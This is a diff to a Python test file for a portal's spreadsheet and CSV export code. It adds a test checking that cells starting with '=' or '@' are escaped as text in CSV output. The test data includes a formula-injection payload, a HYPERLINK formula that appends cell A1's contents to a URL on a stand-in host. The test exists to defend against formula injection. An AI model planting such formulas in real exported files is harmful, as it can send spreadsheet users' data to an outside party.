@@ -7,7 +7,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from portal.exports import XLSX, Table, xlsx_response
+from portal.exports import XLSX, Table, csv_response, xlsx_response
 
 EXPORTS = [
     "/regulator/enterprises",
@@ -60,3 +60,9 @@ def test_a_text_that_looks_like_a_formula_or_a_number_stays_text():
     sheet = load_workbook(io.BytesIO(xlsx_response(table).body)).worksheets[0]
     cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
     assert [(c.value, c.data_type) for c in cells] == [('=HYPERLINK("x")', "s"), ("000123", "s"), (7, "n")]
+
+
+def test_a_csv_cell_that_would_start_a_formula_is_written_as_text():
+    table = Table("t", ["名称", "分"], [['=HYPERLINK("http://x/?"&A1)', 7], ["@SUM(1)", -3], ["郑州某置业", 0]])
+    rows = list(csv.reader(io.StringIO(csv_response(table).body.decode("utf-8-sig"))))
+    assert rows[1:] == [['\'=HYPERLINK("http://x/?"&A1)', "7"], ["'@SUM(1)", "-3"], ["郑州某置业", "0"]]
